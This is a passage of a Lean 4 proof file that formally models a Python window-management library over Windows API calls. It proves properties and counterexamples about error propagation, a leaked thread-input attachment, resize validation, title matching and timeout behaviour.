      (Except.error PyErr.invalidWindow, if h = 0 then [] else [OsCall.isWindow h]) ∧
    (∀ x y : Int, Window.move_to w h x y =
      (Except.error PyErr.invalidWindow, if h = 0 then [] else [OsCall.isWindow h])) ∧
    (∀ wd ht : Int, Window.resize_to w h wd ht =
      (Except.error PyErr.invalidWindow, if h = 0 then [] else [OsCall.isWindow h])) ∧
    Window.close w h =
      (Except.error PyErr.invalidWindow, if h = 0 then [] else [OsCall.isWindow h]) ∧
    Window.activate w h =
      (Except.error PyErr.invalidWindow, if h = 0 then [] else [OsCall.isWindow h]) ∧
    (∀ (timeout : ℚ) (clock : Nat → ℚ) (fuel : Nat),
      (Window.wait_for_active w h timeout clock fuel).1 = false ∧
      ((Window.wait_for_active w h timeout clock fuel).2 = [] ∨
       (Window.wait_for_active w h timeout clock fuel).2 =
         (if h = 0 then [] else [OsCall.isWindow h]))) := by
  have hv := validate_hwnd_invalid w h hbad
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_⟩
  · rw [Window.title, hv]; rfl
  · rw [Window.position, hv]; rfl
  · rw [Window.size, hv]; rfl
  · rw [Window.box, hv]; rfl
  · rw [Window.is_active, hv]; rfl
  · rw [Window.process_id, hv]; rfl
  · rw [Window.class_name, hv]; rfl
  · intro x y; rw [Window.move_to, hv]; rfl
  · intro wd ht; rw [Window.resize_to, hv]; rfl
  · rw [Window.close, hv]; rfl
  · rw [Window.activate, hv]; rfl
  · intro timeout clock fuel
    have hia : Window.is_active w h =
        (Except.error PyErr.invalidWindow, if h = 0 then [] else [OsCall.isWindow h]) := by
      rw [Window.is_active, hv]; rfl
    cases fuel with
    | zero => exact ⟨rfl, Or.inl rfl⟩
    | succ n =>
      rw [Window.wait_for_active, wait_for_active_go]
      by_cases hcond : clock 1 - clock 0 < timeout
      · rw [if_pos hcond, hia]
        exact ⟨rfl, Or.inr rfl⟩
      · rw [if_neg hcond]
        exact ⟨rfl, Or.inl rfl⟩

/-- World for the C3 witness: every handle reports invalid. -/
def W3a : World := { W0 with isWin := fun _ => false }

theorem windowOps_invalid_handle_witness :
    Window.title W3a 7 = (Except.error PyErr.invalidWindow, [OsCall.isWindow 7]) ∧
    Window.process_id W3a 7 = (Except.error PyErr.invalidWindow, [OsCall.isWindow 7]) :=
  ⟨(windowOps_invalid_handle W3a 7 (Or.inr (by decide))).1,
   (windowOps_invalid_handle W3a 7 (Or.inr (by decide))).2.2.2.2.2.1⟩

/-- World for the C3 counterexample: every handle reports invalid. -/
def W3 : World := { W0 with isWin := fun _ => false }

/-- C3 counterexample: wait_for_active is a public WindowProxy operation,
yet on an invalid handle (here 7, with a positive timeout) it does not
fail with InvalidHandle: it returns the plain boolean False, the result
form the claim explicitly excludes. -/
theorem wait_for_active_invalid_returns_false :
    Window.wait_for_active W3 7 1 (fun _ => 0) 5 = (false, [OsCall.isWindow 7]) := by
  have hia : Window.is_active W3 7 =
      (Except.error PyErr.invalidWindow, [OsCall.isWindow 7]) := by decide
  show wait_for_active_go W3 7 1 (fun _ => 0) ((fun _ => (0 : ℚ)) 0) 1 (4 + 1) = _
  rw [wait_for_active_go, if_pos (by norm_num), hia]

/-- World for the C4 counterexample: handle 3 is valid, but the
GetWindowThreadProcessId primitive fails with access denied (winerror 5,
also left in GetLastError). -/
def W4 : World := { W0 with lastError := 5, tpidErr := fun _ => some 5 }

/-- C4 counterexample: with a valid handle whose adapter call fails with
an access-denied WindowsAPIError, Window.process_id does not propagate
the error; it swallows it and returns the successful absent result. -/
theorem process_id_swallows_api_error :
    Window.process_id W4 3 =
      (Except.ok none,
        [OsCall.isWindow 3, OsCall.isWindow 3,
         OsCall.getWindowThreadProcessId 3, OsCall.getLastError]) := by
  decide

theorem wait_go_false_on_api_error (w : World) (h : Int) (timeout : ℚ)
    (clock : Nat → ℚ) (start : ℚ) (t0 : List OsCall)
    (hia : Window.is_active w h =
      (Except.error (PyErr.windowsAPIError (some w.lastError)), t0)) :
    ∀ fuel i : Nat, (wait_for_active_go w h timeout clock start i fuel).1 = false := by
  intro fuel
  induction fuel with
  | zero => intro i; rfl
  | succ n ih =>
    intro i
    rw [wait_for_active_go]
    by_cases hcond : clock i - start < timeout
    · rw [if_pos hcond, hia]
      cases hgo : wait_for_active_go w h timeout clock start (i + 1) n with
      | mk r t2 =>
        have h2 := ih (i + 1)
        rw [hgo] at h2
        exact h2
    · rw [if_neg hcond]

/-- C4 (amended): on a valid handle, a non-1400 platform failure of the
underlying adapter call propagates as WindowsAPIError from title,
position, size, box, is_active, move_to, resize_to, close and activate,
but process_id and class_name convert the same failure into a
successful None result, and wait_for_active intercepts the
WindowsAPIError raised by its is_active polls (the except-PyWinCtlError
clause: WindowsAPIError subclasses PyWinCtlError), sleeping and
retrying, so it only ever produces a plain boolean, False here since no
poll can succeed. -/
theorem api_error_propagation (w : World) (h c : Int)
    (h0 : ¬ h = 0) (hw : w.isWin h = true) (hc : ¬ c = 1400) :
    (w.titleErr h = some c →
      (Window.title w h).1 = Except.error (PyErr.windowsAPIError (some w.lastError))) ∧
    (w.rectErr h = some c →
      (Window.position w h).1 = Except.error (PyErr.windowsAPIError (some w.lastError))) ∧
    (w.rectErr h = some c →
      (Window.size w h).1 = Except.error (PyErr.windowsAPIError (some w.lastError))) ∧
    (w.rectErr h = some c →
      (Window.box w h).1 = Except.error (PyErr.windowsAPIError (some w.lastError))) ∧
    (w.fgErr = some c →
      (Window.is_active w h).1 = Except.error (PyErr.windowsAPIError (some w.lastError))) ∧
    (∀ x y : Int, w.swpErr h = some c →
      (Window.move_to w h x y).1 =
        Except.error (PyErr.windowsAPIError (some w.lastError))) ∧
    (∀ wd ht : Int, 0 < wd → 0 < ht → w.swpErr h = some c →
      (Window.resize_to w h wd ht).1 =
        Except.error (PyErr.windowsAPIError (some w.lastError))) ∧
    (∀ cc : Int, w.postMsgErr h = some cc → ¬ cc = 1400 →
      (Window.close w h).1 = Except.error (PyErr.windowsAPIError (some w.lastError))) ∧
    (¬ c = 5 → w.tpidErr h = some c →
      (Window.activate w h).1 = Except.error (PyErr.windowsAPIError (some w.lastError))) ∧
    (w.tpidErr h = some c → (Window.process_id w h).1 = Except.ok none) ∧
    (w.classErr h = some c → (Window.class_name w h).1 = Except.ok none) ∧
    (w.fgErr = some c → ∀ (timeout : ℚ) (clock : Nat → ℚ) (fuel : Nat),
      (Window.wait_for_active w h timeout clock fuel).1 = false) := by
  have hval := validate_hwnd_valid w h h0 hw
  have hchk := check_hwnd_valid w h h0 hw
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_⟩
  · intro he
    simp [Window.title, get_window_title, hval, hchk, seqR, he, hc]
  · intro he
    simp [Window.position, get_window_rect, hval, hchk, seqR, he, hc]
  · intro he
    simp [Window.size, get_window_rect, hval, hchk, seqR, he, hc]
  · intro he
    simp [Window.box, get_window_rect, hval, hchk, seqR, he, hc]
  · intro he
    simp [Window.is_active, get_active_window_hwnd, hval, seqR, he]
  · intro x y he
    simp [Window.move_to, move_window, hval, hchk, seqR, he, hc]
  · intro wd ht hwd hht he
    have h1 : ¬ (wd ≤ 0 ∨ ht ≤ 0) := by
      push_neg
      exact ⟨hwd, hht⟩
    simp [Window.resize_to, resize_window, hval, hchk, seqR, h1, he, hc]
  · intro cc he hcc
    simp [Window.close, close_window, hval, hchk, seqR, he, hcc]
  · intro hc5 he
    rw [Window.activate, hval]
    unfold set_foreground_window sfw_body raw_tpid
    rw [hchk]
    simp [seqR, seqRW, he, hc, hc5]
  · intro he
    simp [Window.process_id, get_window_thread_process_id, hval, hchk, seqR, he, hc]
  · intro he
    simp [Window.class_name, get_window_classname, hval, hchk, seqR, he, hc]
  · intro he timeout clock fuel
    have hia : Window.is_active w h =
        (Except.error (PyErr.windowsAPIError (some w.lastError)),
          [OsCall.isWindow h, OsCall.getForegroundWindow, OsCall.getLastError]) := by
      rw [Window.is_active, hval]
      unfold get_active_window_hwnd
      simp [seqR, he]
    show (wait_for_active_go w h timeout clock (clock 0) 1 fuel).1 = false
    exact wait_go_false_on_api_error w h timeout clock (clock 0) _ hia fuel 1

/-- World for the C4 witness: every non-1400 adapter primitive,
GetForegroundWindow included, fails with winerror 5 (access denied) and
GetLastError reads 5. -/
def W4a : World :=
  { W0 with
    lastError := 5
    fgErr := some 5
    titleErr := fun _ => some 5
    rectErr := fun _ => some 5
    postMsgErr := fun _ => some 5
    swpErr := fun _ => some 5
    tpidErr := fun _ => some 5
    classErr := fun _ => some 5 }

theorem api_error_propagation_witness :
    (Window.title W4a 3).1 = Except.error (PyErr.windowsAPIError (some 5)) ∧
    (Window.is_active W4a 3).1 = Except.error (PyErr.windowsAPIError (some 5)) ∧
    (Window.process_id W4a 3).1 = Except.ok none ∧
    (Window.wait_for_active W4a 3 1 (fun _ => 0) 3).1 = false :=
  ⟨(api_error_propagation W4a 3 5 (by decide) (by decide) (by decide)).1 (by decide),
   (api_error_propagation W4a 3 5 (by decide) (by decide) (by decide)).2.2.2.2.1
     (by decide),
   (api_error_propagation W4a 3 5 (by decide) (by decide) (by decide)).2.2.2.2.2.2.2.2.2.1
     (by decide),
   (api_error_propagation W4a 3 5 (by decide) (by decide) (by decide)).2.2.2.2.2.2.2.2.2.2.2
     (by decide) 1 (fun _ => 0) 3⟩

/-- World for C5: the target window is 10 (thread 110), the current
foreground is 20 (thread 120), the calling thread is 7; attaching the
calling thread to the foreground thread succeeds, and the subsequent
attach to the target thread fails with winerror 87. -/
def W5 : World :=
  { W0 with
    fg := 20
    lastError := 87
    curThread := 7
    tpid := fun h => if h = 10 then (110, 1010) else (120, 1020)
    attachErr := fun a b flag =>
      if a = 110 ∧ b = 7 ∧ flag = true then some 87 else none }

/-- C5: the claim that every successfully acquired thread-input
attachment is released on every exit path fails.  The two
AttachThreadInput(attach=True) calls sit before the try whose finally
clause performs the detaches, so when the second attach raises, the
operation terminates with exactly one successful attach=True call and no
attach=False call at all: the foreground-thread attachment leaks. -/
theorem sfw_leaks_attachment :
    set_foreground_window W5 10 =
      (Except.error (PyErr.windowsAPIError (some 87)),
        [OsCall.isWindow 10, OsCall.getWindowThreadProcessId 10,
         OsCall.getForegroundWindow, OsCall.getCurrentThreadId,
         OsCall.getWindowThreadProcessId 20,
         OsCall.attachThreadInput 120 7 true true,
         OsCall.attachThreadInput 110 7 true false,
         OsCall.getLastError]) ∧
    (set_foreground_window W5 10).2.countP
      (fun c => match c with
        | OsCall.attachThreadInput _ _ true true => true
        | _ => false) = 1 ∧
    (set_foreground_window W5 10).2.countP
      (fun c => match c with
        | OsCall.attachThreadInput _ _ false _ => true
        | _ => false) = 0 := by
  refine ⟨by decide, by decide, by decide⟩

/-- World for the C6 counterexample: every handle is valid. -/
def W6 : World := W0

/-- C6 counterexample: resize_to with width 0 on the valid handle 4 does
raise the validation error, but only after the handle-validity check has
already made an IsWindow OS call, contradicting the claim that the
rejection precedes any OS call. -/
theorem resize_rejection_after_validity_call :
    Window.resize_to W6 4 0 300 = (Except.error PyErr.valueError, [OsCall.isWindow 4]) ∧
    (Window.resize_to W6 4 0 300).2 ≠ [] := by
  refine ⟨by decide, by decide⟩

/-- C6 (amended): on a valid handle, resize_to rejects a non-positive
width or height with ValueError after the single IsWindow validity query
and before any SetWindowPos call (its whole trace is that one validity
check); on an invalid handle the rejection is InvalidWindowError
instead. -/
theorem resize_nonpositive_rejected (w : World) (h wd ht : Int)
    (h0 : ¬ h = 0) (hw : w.isWin h = true) (hbad : wd ≤ 0 ∨ ht ≤ 0) :
    Window.resize_to w h wd ht = (Except.error PyErr.valueError, [OsCall.isWindow h]) := by
  rw [Window.resize_to, validate_hwnd_valid w h h0 hw]
  simp [seqR, hbad]

theorem resize_nonpositive_rejected_witness :
    Window.resize_to W0 9 250 (-1) = (Except.error PyErr.valueError, [OsCall.isWindow 9]) :=
  resize_nonpositive_rejected W0 9 250 (-1) (by decide) (by decide) (Or.inr (by decide))

/-- C7: get_window_by_title in exact mode returns a window only when its
current title equals the pattern character for character; in substring
mode only when its title contains the pattern case-insensitively; and in
both modes, when no enumerated window matches, it fails with
WindowNotFoundError. -/
theorem get_window_by_title_matching (w : World) (pat : List Char) :
    (∀ (h2 : Int) (t : List OsCall),
      get_window_by_title w pat true = (Except.ok h2, t) → w.titleOf h2 = pat) ∧
    (∀ (h2 : Int) (t : List OsCall),
      get_window_by_title w pat false = (Except.ok h2, t) →
        pyIn (upperChars pat) (upperChars (w.titleOf h2)) = true) ∧
    ((∀ h2 ∈ w.allWindows, ¬ w.titleOf h2 = pat) →
      get_window_by_title w pat true =
        (Except.error PyErr.windowNotFound, [OsCall.enumWindows, OsCall.enumWindows])) ∧
    ((∀ h2 ∈ w.allWindows, pyIn (upperChars pat) (upperChars (w.titleOf h2)) = false) →
      get_window_by_title w pat false =
        (Except.error PyErr.windowNotFound, [OsCall.enumWindows])) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro h2 t heq
    unfold get_window_by_title at heq
    rw [if_pos rfl] at heq
    split at heq
    · cases heq
    · rename_i a hf
      split at heq
      · rename_i b t2 hwi
        have hb : b = a := WindowInit_ok w a b t2 hwi
        have hpa := List.find?_some hf
        have h2a : h2 = b := by
          injection heq with heq1 heq2
          injection heq1 with heq1
          exact heq1.symm
        rw [h2a, hb]
        exact eq_of_beq hpa
      · cases heq
  · intro h2 t heq
    unfold get_window_by_title at heq
    rw [if_neg (by simp)] at heq
    split at heq
    · cases heq
    · rename_i a rest hl
      split at heq
      · rename_i b t2 hwi
        have hb : b = a := WindowInit_ok w a b t2 hwi
        have hmem : a ∈ gwGetWindowsWithTitle w pat := by
          rw [hl]
          exact List.mem_cons_self a rest
        have hpa := (List.mem_filter.mp hmem).2
        have h2a : h2 = b := by
          injection heq with heq1 heq2
          injection heq1 with heq1
          exact heq1.symm
        rw [h2a, hb]
        exact hpa
      · cases heq
  · intro hnone
    have hf : (w.allWindows.filter fun h => !(w.titleOf h).isEmpty).find?
        (fun h => w.titleOf h == pat) = none := by
      apply List.find?_eq_none.mpr
      intro x hx hbx
      exact hnone x (List.mem_filter.mp hx).1 (eq_of_beq hbx)
    unfold get_window_by_title
    rw [if_pos rfl, hf]
  · intro hnone
    have hf : gwGetWindowsWithTitle w pat = [] := by
      apply List.filter_eq_nil_iff.mpr
      intro x hx
      simp [hnone x hx]
    unfold get_window_by_title
    rw [if_neg (by simp), hf]

/-- World for the C7 witness: two valid windows, 1 titled Notepad and 2
titled Exact Title. -/
def W7 : World :=
  { W0 with
    allWindows := [1, 2]
    titleOf := fun h => if h = 1 then ("Notepad").toList else ("Exact Title").toList }

theorem get_window_by_title_matching_witness :
    W7.titleOf 2 = ("Exact Title").toList ∧
    get_window_by_title W7 (("ZZZ_DOES_NOT_EXIST_ZZZ").toList) false =
      (Except.error PyErr.windowNotFound, [OsCall.enumWindows]) :=
  ⟨(get_window_by_title_matching W7 (("Exact Title").toList)).1 2
      [OsCall.enumWindows, OsCall.enumWindows, OsCall.isWindow 2] (by decide),
   (get_window_by_title_matching W7 (("ZZZ_DOES_NOT_EXIST_ZZZ").toList)).2.2.2
      (by decide)⟩

/-- C8: activate on a window that is already the OS foreground window
succeeds immediately; its whole trace is the two validity checks, the
thread-id query and the foreground query, so it performs no
AttachThreadInput, no restore, no z-order change and no
SetForegroundWindow call. -/
theorem activate_already_foreground (w : World) (h : Int) (h0 : ¬ h = 0)
    (hw : w.isWin h = true) (hfg : w.fg = h) (htp : w.tpidErr h = none) :
    Window.activate w h =
      (Except.ok (), [OsCall.isWindow h, OsCall.isWindow h,
        OsCall.getWindowThreadProcessId h, OsCall.getForegroundWindow]) := by
  rw [Window.activate, validate_hwnd_valid w h h0 hw]
  unfold set_foreground_window sfw_body raw_tpid
  rw [check_hwnd_valid w h h0 hw]
  simp [seqR, seqRW, htp, hfg]

/-- World for the C8 witness: window 9 is valid and is the foreground. -/
def W8 : World := { W0 with fg := 9 }

theorem activate_already_foreground_witness :
    Window.activate W8 9 =
      (Except.ok (), [OsCall.isWindow 9, OsCall.isWindow 9,
        OsCall.getWindowThreadProcessId 9, OsCall.getForegroundWindow]) :=
  activate_already_foreground W8 9 (by decide) (by decide) (by decide) (by decide)

/-- C9: on a valid handle whose rect query succeeds with (l, t, r, b),
Window.box performs exactly one GetWindowRect call and returns left, top
and the exact integer differences r - l and b - t computed from that
single query, with no clamping of negative values. -/
theorem box_single_rect_query (w : World) (h l t r b : Int) (h0 : ¬ h = 0)
    (hw : w.isWin h = true) (hr : w.rectErr h = none) (hrect : w.rect h = (l, t, r, b)) :
    Window.box w h =
      (Except.ok (l, t, r - l, b - t),
        [OsCall.isWindow h, OsCall.isWindow h, OsCall.getWindowRect h]) ∧
    (Window.box w h).2.countP
      (fun c => match c with
        | OsCall.getWindowRect _ => true
        | _ => false) = 1 := by
  have hbox : Window.box w h =
      (Except.ok (l, t, r - l, b - t),
        [OsCall.isWindow h, OsCall.isWindow h, OsCall.getWindowRect h]) := by
    rw [Window.box, validate_hwnd_valid w h h0 hw]
    unfold get_window_rect
    rw [check_hwnd_valid w h h0 hw]
    simp [seqR, hr, hrect]
  refine ⟨hbox, ?_⟩
  rw [hbox]
  rfl

/-- World for the C9 witness: the rect of every window is
(-5, -7, -15, -27), so the reported width and height are the negative
differences -10 and -20, unclamped. -/
def W9 : World := { W0 with rect := fun _ => (-5, -7, -15, -27) }

theorem box_single_rect_query_witness :
    Window.box W9 3 =
      (Except.ok (-5, -7, -10, -20),
        [OsCall.isWindow 3, OsCall.isWindow 3, OsCall.getWindowRect 3]) := by
  have hb := (box_single_rect_query W9 3 (-5) (-7) (-15) (-27)
    (by decide) (by decide) (by decide) (by decide)).1
  norm_num at hb
  exact hb

/-- C10: with a timeout that is not positive, wait_for_active returns
False with an empty trace: no handle-validity check and no OS query is
performed, whatever the world state (even a valid, already-active
window), because monotonic clock readings make the elapsed time
non-negative and so never below the timeout. -/
theorem wait_nonpositive_timeout (w : World) (h : Int) (timeout : ℚ)
    (clock : Nat → ℚ) (fuel : Nat) (hT : timeout ≤ 0) (hm : clock 0 ≤ clock 1) :
    Window.wait_for_active w h timeout clock fuel = (false, []) := by
  rw [Window.wait_for_active]
  cases fuel with
  | zero => rfl
  | succ n =>
    rw [wait_for_active_go]
    have hnot : ¬ (clock 1 - clock 0 < timeout) := by
      intro hlt
      have hge : (0 : ℚ) ≤ clock 1 - clock 0 := sub_nonneg.mpr hm
      linarith
    rw [if_neg hnot]

/-- World for the C10 witness: window 3 is valid and is already the
foreground window, yet a zero timeout returns False with no OS call. -/
def W10 : World := { W0 with fg := 3 }

theorem wait_nonpositive_timeout_witness :
    Window.wait_for_active W10 3 0 (fun _ => 0) 4 = (false, []) :=
  wait_nonpositive_timeout W10 3 0 (fun _ => 0) 4 (by norm_num) (by norm_num)
